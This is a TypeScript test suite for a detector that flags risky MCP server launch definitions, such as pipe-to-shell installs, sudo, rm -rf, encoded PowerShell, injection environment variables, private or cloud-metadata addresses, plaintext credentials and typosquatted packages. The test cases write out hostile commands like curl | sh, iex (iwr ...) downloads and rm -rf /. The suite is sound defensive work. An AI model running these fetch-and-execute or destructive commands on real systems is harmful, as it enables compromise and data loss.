import * as assert from 'node:assert/strict';
import type { LaunchDefinition } from '../../src/core/config/types';
import { DANGER_FLAG_IDS, dangerFlags, type DangerFlagContext, type DangerFlagId, type DangerFlagSubject } from '../../src/core/trust/dangerFlags';
import { editDistanceAtMost1, packageName, WELL_KNOWN_MCP_PACKAGES } from '../../src/core/trust/typosquat';
import { shellParser } from './helpers/bashParser';

const PROJECT = '/home/dev/project';
const context: DangerFlagContext = {
  workspaceFolders: [PROJECT],
  pathDirs: ['/usr/local/bin', '/usr/bin', '/bin', '/home/dev/.nvm/versions/node/v20/bin', '.', '/'],
  userHome: '/home/dev',
  shellParser,
};

function stdio(command: string, args: string[] = [], extra: Partial<LaunchDefinition> = {}): DangerFlagSubject {
  return { launch: { type: 'stdio', command, args, env: {}, headers: {}, ...extra }, folder: PROJECT };
}

function remote(url: string, headers: Record<string, string> = {}, type: LaunchDefinition['type'] = 'http'): DangerFlagSubject {
  return { launch: { type, url, args: [], env: {}, headers }, folder: PROJECT };
}

function ids(server: DangerFlagSubject, ctx: DangerFlagContext = context): DangerFlagId[] {
  return dangerFlags(server, ctx).map((flag) => flag.id);
}

function detailOf(server: DangerFlagSubject, id: DangerFlagId, ctx: DangerFlagContext = context): string {
  const flag = dangerFlags(server, ctx).find((f) => f.id === id);
  assert.ok(flag, `expected a ${id} flag`);
  return flag.detail ?? '';
}

const encode = (script: string): string => Buffer.from(script, 'utf16le').toString('base64');

type Case = [title: string, server: DangerFlagSubject, expected: DangerFlagId[]];

describe('danger flags', () => {
  it('exports the flag ids in prompt order', () => {
    assert.deepEqual([...DANGER_FLAG_IDS], ['pipe-to-shell', 'sudo', 'rm-rf', 'encoded-powershell', 'env-override', 'outside-workspace', 'private-address', 'plaintext-credentials', 'typosquat']);
  });

  describe('pipe-to-shell', () => {
    const cases: Case[] = [
      ['curl | sh inside sh -c', stdio('sh', ['-c', 'curl -fsSL https://get.example.com/install.sh | sh']), ['pipe-to-shell']],
      ['wget -O- | sudo bash inside bash -c', stdio('bash', ['-c', 'wget -qO- https://get.example.com | sudo bash && node server.js']), ['pipe-to-shell', 'sudo']],
      ['bash <(curl …)', stdio('bash', ['-c', 'bash <(curl -s https://example.com/i.sh)']), ['pipe-to-shell']],
      ['bash -c "$(curl …)" as separate args', stdio('bash', ['-c', '"$(curl -fsSL https://example.com/i.sh)"']), ['pipe-to-shell']],
      ['curl | python3', stdio('sh', ['-lc', 'curl -s https://example.com/x.py | python3 -']), ['pipe-to-shell']],
      ['iex (iwr …) in PowerShell', stdio('powershell', ['-NoProfile', '-Command', 'iex (iwr https://example.com/i.ps1 -UseBasicParsing)']), ['pipe-to-shell']],
      ['iwr … | iex in pwsh.exe', stdio('pwsh.exe', ['-c', 'iwr https://example.com/i.ps1 | iex']), ['pipe-to-shell']],
      ['IEX (New-Object Net.WebClient).DownloadString', stdio('powershell.exe', ['-Command', "IEX (New-Object Net.WebClient).DownloadString('https://example.com/a.ps1')"]), ['pipe-to-shell']],
      ['a pipe written as separate arguments', stdio('curl', ['-fsSL', 'https://example.com/install.sh', '|', 'sh']), ['pipe-to-shell']],
      ['cmd /c with the pipe split over arguments', stdio('cmd', ['/c', 'curl', '-s', 'https://example.com/x.cmd', '|', 'cmd']), ['pipe-to-shell']],
    ];
    for (const [title, server, expected] of cases) it(`flags ${title}`, () => assert.deepEqual(ids(server), expected));

    const clean: Case[] = [
      ['curl -o file.sh without a pipe', stdio('curl', ['-o', 'file.sh', 'https://example.com/install.sh']), []],
      ['a download saved to a file, then node', stdio('sh', ['-c', 'curl -fsSL https://example.com/data.json -o data.json && node server.js']), []],
      ['curl piped into shasum (not a shell)', stdio('sh', ['-c', 'curl -s https://example.com/x.tgz | shasum -a 256']), []],
      ['curl piped into tar', stdio('bash', ['-c', 'curl -sL https://example.com/x.tgz | tar xz']), []],
      ['a token fetched into a variable', stdio('sh', ['-c', 'TOKEN=$(curl -s https://auth.example.com/token) node server.js']), []],
    ];
    for (const [title, server, expected] of clean) it(`does not flag ${title}`, () => assert.deepEqual(ids(server), expected));

    it('names what matched, not the whole line', () => {
      assert.equal(detailOf(stdio('sh', ['-c', 'echo hi; curl -fsSL https://x.example/i.sh | sh; echo done']), 'pipe-to-shell'), 'curl -fsSL https://x.example/i.sh | sh');
    });
  });

  describe('sudo', () => {
    const cases: Case[] = [
      ['sudo as the command', stdio('sudo', ['node', 'server.js']), ['sudo']],
      ['sudo with options', stdio('/usr/bin/sudo', ['-E', '-u', 'root', 'node', 'server.js']), ['sudo']],
      ['doas', stdio('doas', ['npx', '-y', '@modelcontextprotocol/server-memory']), ['sudo']],
      ['sudo inside a shell string', stdio('sh', ['-c', 'sudo npm i -g some-server && some-server']), ['sudo']],
      ['sudo behind env', stdio('env', ['FOO=1', 'sudo', 'node', 'server.js']), ['sudo']],
      ['su -c', stdio('su', ['root', '-c', 'node server.js']), ['sudo']],
      ['Start-Process -Verb RunAs', stdio('powershell', ['-Command', 'Start-Process node -Verb RunAs']), ['sudo']],
      // The shell strings are read with the bash grammar: commands inside groups and if/then are found.
      ['sudo inside a { group; } of a shell string', stdio('sh', ['-c', '{ sudo node server.js; }']), ['sudo']],
      ['sudo after then', stdio('bash', ['-c', 'if true; then sudo node server.js; fi']), ['sudo']],
      ['sudo in a substitution inside quotes', stdio('bash', ['-c', 'echo "$(sudo id)"; node s.js']), ['sudo']],
      ['gsudo, from the one table of elevators', stdio('gsudo', ['node', 'server.js']), ['sudo']],
    ];
    for (const [title, server, expected] of cases) it(`flags ${title}`, () => assert.deepEqual(ids(server), expected));

    const clean: Case[] = [
      ['pseudo-server', stdio('npx', ['-y', 'pseudo-server']), []],
      ['the word sudo inside an argument', stdio('sh', ['-c', 'echo use sudo carefully']), []],
      ['a script called sudo-helper.js', stdio('node', ['sudo-helper.js']), []],
      ['the word sudo in the text of a heredoc', stdio('bash', ['-c', 'cat <<EOF\nsudo is not run here\nEOF\nnode s.js']), []],
    ];
    for (const [title, server, expected] of clean) it(`does not flag ${title}`, () => assert.deepEqual(ids(server), expected));
  });

  describe('rm-rf', () => {
    it('flags rm -rf ~/.cache/x in a shell string, and the folder outside the workspace', () => {
      assert.deepEqual(ids(stdio('bash', ['-c', 'rm -rf ~/.cache/x && npx -y @modelcontextprotocol/server-memory'])), ['rm-rf', 'outside-workspace']);
    });
    for (const line of ['rm -fr build', 'rm -r -f build', 'rm --recursive --force build', 'rm -Rf build', '/bin/rm -rfv build', 'xargs rm -rf']) {
      it(`flags ${line} in a shell string`, () => assert.deepEqual(ids(stdio('bash', ['-c', `${line} && npx -y @modelcontextprotocol/server-memory`])), ['rm-rf']));
    }
    it('flags Remove-Item -Recurse -Force and its abbreviations', () => {
      assert.deepEqual(ids(stdio('pwsh', ['-Command', 'Remove-Item -Recurse -Force C:\\temp\\x; node s.js'])), ['rm-rf']);
      assert.deepEqual(ids(stdio('powershell', ['-c', 'ri -r -fo .\\out'])), ['rm-rf']);
      assert.deepEqual(ids(stdio('powershell', ['-c', 'Remove-Item -Recurse:$true -Force .\\out'])), ['rm-rf']);
      assert.deepEqual(ids(stdio('powershell', ['-c', 'Remove-Item -Recurse:$false -Force .\\out.txt'])), []);
    });
    it('flags rd /s /q under cmd', () => assert.deepEqual(ids(stdio('cmd', ['/c', 'rd /s /q build && node server.js'])), ['rm-rf']));
    it('flags rm -rf as the command itself, with the command in the detail', () => {
      assert.equal(detailOf(stdio('rm', ['-rf', '/']), 'rm-rf'), 'rm -rf /');
    });
    for (const line of ['rm -i x.log', 'rm -r build', 'rm -f x.log', 'echo rm -rf', 'npm run clean -- --force']) {
      it(`does not flag ${line}`, () => assert.deepEqual(ids(stdio('sh', ['-c', line])), []));
    }
  });

  describe('encoded-powershell', () => {
    it('flags -EncodedCommand with a base64 blob and shows what it decodes to', () => {
      const server = stdio('powershell', ['-NoProfile', '-EncodedCommand', encode('Write-Output hello')]);
      assert.deepEqual(ids(server), ['encoded-powershell']);
      assert.equal(detailOf(server, 'encoded-powershell'), 'decodes to: Write-Output hello');
    });
    it('flags -enc and -e, and judges the decoded script too', () => {
      assert.deepEqual(ids(stdio('pwsh.exe', ['-w', 'hidden', '-enc', encode('iex (iwr https://example.com/p.ps1)')])), ['pipe-to-shell', 'encoded-powershell']);
      assert.deepEqual(ids(stdio('powershell', ['-e', encode('Start-Sleep 1')])), ['encoded-powershell']);
    });
    it('flags an encoded command nested in cmd /c', () => {
      assert.deepEqual(ids(stdio('cmd.exe', ['/c', `powershell -ec ${encode('Get-Date')}`])), ['encoded-powershell']);
    });
    it('does not flag plain pwsh -File or -ExecutionPolicy', () => {
      assert.deepEqual(ids(stdio('pwsh', ['-File', 'x.ps1'])), []);
      assert.deepEqual(ids(stdio('powershell', ['-ExecutionPolicy', 'Bypass', '-File', 'scripts/start.ps1'])), []);
    });
  });

  describe('env-override', () => {
    for (const name of ['PATH', 'Path', 'LD_PRELOAD', 'LD_LIBRARY_PATH', 'DYLD_INSERT_LIBRARIES', 'NODE_OPTIONS', 'PYTHONPATH', 'PATHEXT']) {
      it(`flags ${name} in env`, () => {
        const server = stdio('node', ['server.js'], { env: { [name]: '/tmp/evil' } });
        assert.deepEqual(ids(server), ['env-override']);
        assert.equal(detailOf(server, 'env-override'), name);
      });
    }
    it('flags an injection variable set through env on the command line', () => {
      assert.deepEqual(ids(stdio('env', ['LD_PRELOAD=/tmp/x.so', 'node', 'server.js'])), ['env-override']);
    });
    it('does not flag look-alike names', () => {
      assert.deepEqual(ids(stdio('node', ['server.js'], { env: { MY_PATH: '/x', PATH_PREFIX: '/y', DEBUG: '1', NODE_ENV: 'production', API_KEY: 'k' } })), []);
    });
    for (const name of ['NODE_OPTIONS', 'LD_PRELOAD', 'DYLD_INSERT_LIBRARIES', 'npm_config_registry', 'NPM_CONFIG_SCRIPT_SHELL', 'PYTHONPATH', 'BASH_ENV', 'GIT_SSH_COMMAND', 'GIT_CONFIG_COUNT', 'UV_INDEX_URL']) {
      it(`flags ${name} defined by the env file, naming the file`, () => {
        const server = stdio('node', ['server.js'], { envFile: '.env', envFileVars: { SAFE: 'hmac-sha256:00', [name]: 'hmac-sha256:11' } });
        assert.deepEqual(ids(server), ['env-override']);
        assert.equal(detailOf(server, 'env-override'), `${name} (from envFile .env)`);
      });
    }
    it('flags nothing for an env file of harmless names', () => {
      assert.deepEqual(ids(stdio('node', ['server.js'], { envFile: '.env', envFileVars: { API_KEY: 'hmac-sha256:00', DEBUG: 'hmac-sha256:11' } })), []);
    });
  });

  describe('outside-workspace', () => {
    const cases: Case[] = [
      ['an absolute command outside the workspace', stdio('/opt/tools/mcp-server'), ['outside-workspace']],
      ['a relative command that climbs out', stdio('../../other/bin/server'), ['outside-workspace']],
      ['a command in the home folder', stdio('~/bin/server'), ['outside-workspace']],
      ['a cwd outside the workspace', stdio('node', ['server.js'], { cwd: '/tmp' }), ['outside-workspace']],
      ['a script outside the workspace run by node', stdio('node', ['/opt/evil/server.js']), ['outside-workspace']],
      ['a workspace path that climbs out with ..', stdio(`${PROJECT}/../elsewhere/server`), ['outside-workspace']],
    ];
    for (const [title, server, expected] of cases) it(`flags ${title}`, () => assert.deepEqual(ids(server), expected));

    const clean: Case[] = [
      ['a command inside the workspace', stdio(`${PROJECT}/bin/server`), []],
      ['${workspaceFolder}/bin/server as written', stdio('${workspaceFolder}/bin/server'), []],
      ['./bin/server', stdio('./bin/server'), []],
      ['a bare command name', stdio('node'), []],
      ['an absolute command in a PATH directory', stdio('/usr/local/bin/node', ['dist/index.js']), []],
      ['node with a relative script', stdio('node', ['dist/index.js'], { cwd: `${PROJECT}/packages/server` }), []],
      ['python -m', stdio('python3', ['-m', 'my_server']), []],
      ['an unexpanded input', stdio('${input:server-path}'), []],
    ];
    for (const [title, server, expected] of clean) it(`does not flag ${title}`, () => assert.deepEqual(ids(server), expected));

    it('compares Windows paths without regard to case', () => {
      const windows: DangerFlagContext = { workspaceFolders: ['c:\\Users\\dev\\proj'], pathDirs: ['C:\\Windows\\System32'], userHome: 'C:\\Users\\dev', shellParser };
      const at = (command: string): DangerFlagSubject => ({ launch: { type: 'stdio', command, args: [], env: {}, headers: {} }, folder: 'C:\\Users\\dev\\proj' });
      assert.deepEqual(ids(at('C:\\USERS\\dev\\Proj\\bin\\server.exe'), windows), []);
      assert.deepEqual(ids(at('C:\\Windows\\System32\\cmd.exe'), windows), []);
      assert.deepEqual(ids(at('D:\\tools\\server.exe'), windows), ['outside-workspace']);
    });

    it('looks a bare name up next to the working directory when it is not on PATH', () => {
      const notOnPath: DangerFlagContext = { ...context, isPathCommand: () => false };
      assert.deepEqual(ids(stdio('myserver'), notOnPath), []);
      assert.equal(detailOf(stdio('myserver', [], { cwd: '/tmp' }), 'outside-workspace', notOnPath), 'command myserver; cwd /tmp');
    });

    it('ignores PATH entries that are relative or a filesystem root', () => {
      assert.deepEqual(ids(stdio('/srv/server')), ['outside-workspace']);
    });

    describe('folders given as arguments', () => {
      const filesystem = (...folders: string[]): DangerFlagSubject => stdio('npx', ['-y', '@modelcontextprotocol/server-filesystem', ...folders]);
      const flagged: Case[] = [
        ['a filesystem server given /tmp', filesystem('/tmp'), ['outside-workspace']],
        ['a filesystem server given the home folder', filesystem('~'), ['outside-workspace']],
        ['a folder in the home folder', filesystem('~/Documents'), ['outside-workspace']],
        ['a folder that climbs out of the workspace', filesystem('../other-repo'), ['outside-workspace']],
        ['--root=/', stdio('node', ['server.js', '--root=/']), ['outside-workspace']],
        ['a folder inside sh -c', stdio('sh', ['-c', 'npx -y @modelcontextprotocol/server-filesystem /etc']), ['outside-workspace']],
      ];
      for (const [title, server, expected] of flagged) it(`flags ${title}`, () => assert.deepEqual(ids(server), expected));

      it('says which argument', () => {
        assert.equal(detailOf(filesystem(PROJECT, '/tmp', '~/notes'), 'outside-workspace'), 'argument /tmp; argument ~/notes');
      });

      const clean: Case[] = [
        ['the workspace folder', filesystem(PROJECT), []],
        ['a folder inside it', filesystem(`${PROJECT}/docs`, './src'), []],
        ['${workspaceFolder} as written', filesystem('${workspaceFolder}'), []],
        ['a URL', stdio('npx', ['mcp-remote', 'https://mcp.example.com/sse']), []],
        ['a program in a PATH directory', stdio('node', ['server.js', '--python', '/usr/bin/python3']), []],
        ['cmd switches', stdio('cmd', ['/c', 'node', 'server.js']), []],
        ['/dev/null', stdio('node', ['server.js', '--log', '/dev/null']), []],
      ];
      for (const [title, server, expected] of clean) it(`does not flag ${title}`, () => assert.deepEqual(ids(server), expected));

      it('flags only paths that exist when the host can tell', () => {
        const disk: DangerFlagContext = { ...context, pathExists: (file) => file === '/tmp' };
        assert.deepEqual(ids(stdio('node', ['server.js', '--base-path', '/mcp', '/tmp']), disk), ['outside-workspace']);
        assert.equal(detailOf(stdio('node', ['server.js', '--base-path', '/mcp', '/tmp']), 'outside-workspace', disk), 'argument /tmp');
      });
    });

    it('flags an env file outside the workspace', () => {
      assert.equal(detailOf(stdio('node', ['server.js'], { envFile: '~/.aws/prod.env' }), 'outside-workspace'), 'envFile ~/.aws/prod.env');
      assert.deepEqual(ids(stdio('node', ['server.js'], { envFile: '.env' })), []);
    });
  });

  describe('private-address', () => {
    const flagged = [
      'http://169.254.169.254/latest/meta-data/',
      'https://10.0.0.5/mcp',
      'http://192.168.1.20:8080/mcp',
      'https://172.16.4.4/mcp',
      'http://127.0.0.2:3000/mcp',
      'http://0.0.0.0:3000/mcp',
      'http://[::ffff:127.0.0.2]/mcp',
      'http://[::ffff:127.0.0.1]/mcp',
      'http://2130706433/',
      'http://0x7f000002/',
      'http://0177.0.0.1/',
      'http://127.1/',
      'http://[fe80::1]/mcp',
      'http://[fd12:3456::1]/mcp',
      'http://[::]/mcp',
      'http://metadata.google.internal/computeMetadata/v1/',
      'http://10.0.0.5.nip.io/mcp',
      'wss://100.100.100.200/ws',
    ];
    for (const url of flagged) it(`flags ${url}`, () => assert.deepEqual(ids(remote(url)), ['private-address']));

    const clean = ['http://localhost:3000/mcp', 'http://127.0.0.1:8080/mcp', 'http://[::1]:3000/mcp', 'https://mcp.example.com/mcp', 'https://8.8.8.8/', 'https://172.32.0.1/', 'http://app.localhost:5173/mcp', 'https://127.0.0.1.nip.io/mcp'];
    for (const url of clean) it(`does not flag ${url}`, () => assert.deepEqual(ids(remote(url)), []));

    it('says what the address is', () => {
      assert.equal(detailOf(remote('http://169.254.169.254/'), 'private-address'), '169.254.169.254 (cloud metadata endpoint)');
      assert.equal(detailOf(remote('http://2130706433/'), 'private-address'), '2130706433 = 127.0.0.1 (IPv4 address written in a disguised form)');
      assert.equal(detailOf(remote('http://0x7f000002/'), 'private-address'), '0x7f000002 = 127.0.0.2 (loopback alias written in a disguised form)');
    });

    it('checks URLs handed to a bridge as arguments', () => {
      assert.deepEqual(ids(stdio('npx', ['-y', 'mcp-remote', 'http://10.1.2.3/sse'])), ['private-address']);
    });
  });

  describe('plaintext-credentials', () => {
    const cases: Case[] = [
      ['an Authorization header over http', remote('http://api.example.com/mcp', { Authorization: 'Bearer abc' }), ['plaintext-credentials']],
      ['an X-API-Key header over ws', remote('ws://api.example.com/mcp', { 'X-API-Key': 'k' }, 'ws'), ['plaintext-credentials']],
      ['a password in the URL', remote('http://user:pass@api.example.com/mcp'), ['plaintext-credentials']],
      ['an api_key in the query string', remote('http://api.example.com/mcp?api_key=abc&page=1'), ['plaintext-credentials']],
      ['a bridge with an Authorization header argument', stdio('npx', ['-y', 'mcp-remote', 'http://api.example.com/sse', '--header', 'Authorization: Bearer ${TOKEN}']), ['plaintext-credentials']],
      ['credentials to a private address over http', remote('http://10.0.0.5/mcp', { Authorization: 'Bearer abc' }), ['private-address', 'plaintext-credentials']],
    ];
    for (const [title, server, expected] of cases) it(`flags ${title}`, () => assert.deepEqual(ids(server), expected));

    const clean: Case[] = [
      ['https with Authorization', remote('https://api.example.com/mcp', { Authorization: 'Bearer abc' }), []],
      ['http to localhost with Authorization', remote('http://localhost:3000/mcp', { Authorization: 'Bearer abc' }), []],
      ['http to 127.0.0.1 with a token in the query', remote('http://127.0.0.1:3000/mcp?token=abc'), []],
      ['http without credentials', remote('http://api.example.com/mcp', { 'X-Request-Source': 'vscode' }), []],
    ];
    for (const [title, server, expected] of clean) it(`does not flag ${title}`, () => assert.deepEqual(ids(server), expected));

    it('never puts the secret into the detail', () => {
      const detail = detailOf(remote('http://alice:hunter2@api.example.com/mcp?token=s3cr3t', { Authorization: 'Bearer tok_123' }), 'plaintext-credentials');
      assert.ok(!/hunter2|s3cr3t|tok_123/.test(detail), detail);
      assert.match(detail, /Authorization header to http:\/\/api\.example\.com/);
    });
  });

  describe('typosquat', () => {
    const flagged: [string, string[]][] = [
      ['npx', ['-y', '@modelcontextprotocol/server-memroy']],
      ['npx', ['-y', '@modelcontextprotocoI/server-memory']],
      ['npx', ['--yes', '@model-context-protocol/server-memory']],
      ['npx', ['-y', '@modelcontextprotocol/server-filesytem@1.2.3', PROJECT]],
      ['npx', ['-y', '@playwright/mpc@latest']],
      ['npx', ['mcp-remtoe', 'https://mcp.example.com/sse']],
      ['npx', ['-p', '@modelcontextprotocol/server-githbu', 'mcp-server-github']],
      ['pnpm', ['dlx', '@upstash/context7-mpc']],
      ['yarn', ['dlx', 'firecrawl-mpc']],
      ['bunx', ['@notionhq/notion-mcp-sever']],
      ['uvx', ['mcp-server-fecth']],
      ['uvx', ['--from', 'mcp-server-gti', 'mcp-server-git']],
      ['npx', ['-y', '@Modelcontextprotocol/server-memory']],
    ];
    for (const [command, args] of flagged) {
      it(`flags ${command} ${args.join(' ')}`, () => assert.deepEqual(ids(stdio(command, args)), ['typosquat']));
    }

    const clean: [string, string[]][] = [
      ['npx', ['-y', '@modelcontextprotocol/server-memory']],
      ['npx', ['-y', '@modelcontextprotocol/server-filesystem@2026.8.31', PROJECT]],
      ['npx', ['-y', '@modelcontextprotocol/sdk']],
      ['npx', ['@playwright/mcp@latest']],
      ['npx', ['-y', 'some-unrelated-package']],
      ['uvx', ['mcp-server-fetch']],
      ['uvx', ['mcp_server_fetch==2025.1.1']],
      ['uvx', ['--from', 'git+https://github.com/org/mcp-server-fecth', 'x']],
      ['npx', ['github:org/mcp-server-memroy']],
    ];
    for (const [command, args] of clean) {
      it(`does not flag ${command} ${args.join(' ')}`, () => assert.deepEqual(ids(stdio(command, args)), []));
    }

    it('names the package it imitates', () => {
      assert.equal(detailOf(stdio('npx', ['-y', '@modelcontextprotocol/server-memroy']), 'typosquat'), '"@modelcontextprotocol/server-memroy" is one typo away from "@modelcontextprotocol/server-memory"');
      assert.equal(detailOf(stdio('npx', ['@model-context-protocol/server-memory']), 'typosquat'), '"@model-context-protocol/server-memory" looks like "@modelcontextprotocol/server-memory"');
      assert.equal(detailOf(stdio('npx', ['@model-context-protocol/anything-else']), 'typosquat'), '"@model-context-protocol/anything-else" is published under @model-context-protocol, a look-alike of @modelcontextprotocol');
    });

    it('checks packages run from inside a shell string', () => {
      assert.deepEqual(ids(stdio('sh', ['-c', 'npx -y @modelcontextprotocol/server-memroy'])), ['typosquat']);
    });

    it('keeps the well-known list free of near-duplicates, so no real package is flagged', () => {
      for (const a of WELL_KNOWN_MCP_PACKAGES) {
        for (const b of WELL_KNOWN_MCP_PACKAGES) if (a !== b) assert.ok(!editDistanceAtMost1(a, b), `${a} / ${b}`);
        const onPypi = /^mcp-server-(?:fetch|git|time|sqlite|sentry)$/.test(a);
        assert.deepEqual(ids(onPypi ? stdio('uvx', [a]) : stdio('npx', ['-y', a])), [], a);
      }
    });

    it('counts a swap of neighbours as one edit', () => {
      assert.ok(editDistanceAtMost1('memory', 'memroy'));
      assert.ok(editDistanceAtMost1('memory', 'memor'));
      assert.ok(editDistanceAtMost1('memory', 'memoryy'));
      assert.ok(!editDistanceAtMost1('memory', 'mmeroy'));
    });

    it('reads package specs the way the registries do', () => {
      assert.equal(packageName('@scope/name@1.2.3', 'npm'), '@scope/name');
      assert.equal(packageName('npm:name@^2', 'npm'), 'name');
      assert.equal(packageName('./local', 'npm'), undefined);
      assert.equal(packageName('owner/repo', 'npm'), undefined);
      assert.equal(packageName('pkg[extra]>=1.0', 'pypi'), 'pkg');
    });
  });

  it('reports one entry per id, in prompt order, with every match in the detail', () => {
    const server = stdio('sudo', ['bash', '-c', 'rm -rf /tmp/a; curl -s https://x.example/i | sh; rm -fr /tmp/b'], { env: { PATH: '/tmp', NODE_OPTIONS: '--require /tmp/x.js' } });
    const flags = dangerFlags(server, context);
    assert.deepEqual(flags.map((f) => f.id), ['pipe-to-shell', 'sudo', 'rm-rf', 'env-override', 'outside-workspace']);
    assert.equal(flags.find((f) => f.id === 'rm-rf')?.detail, 'rm -rf /tmp/a; rm -fr /tmp/b');
    assert.equal(flags.find((f) => f.id === 'env-override')?.detail, 'PATH; NODE_OPTIONS');
    assert.equal(flags.find((f) => f.id === 'outside-workspace')?.detail, 'argument /tmp/a; argument /tmp/b');
    for (const flag of flags) assert.ok(flag.reason.length > 10);
  });

  it('finds nothing in ordinary definitions', () => {
    assert.deepEqual(ids(stdio('npx', ['-y', '@modelcontextprotocol/server-filesystem', PROJECT], { env: { DEBUG: 'mcp:*' } })), []);
    assert.deepEqual(ids(stdio('uvx', ['mcp-server-git', '--repository', PROJECT])), []);
    assert.deepEqual(ids(stdio('docker', ['run', '-i', '--rm', '-e', 'GITHUB_TOKEN', 'ghcr.io/github/github-mcp-server'])), []);
    assert.deepEqual(ids(remote('https://mcp.example.com/mcp', { Authorization: 'Bearer ${input:token}' })), []);
  });
});
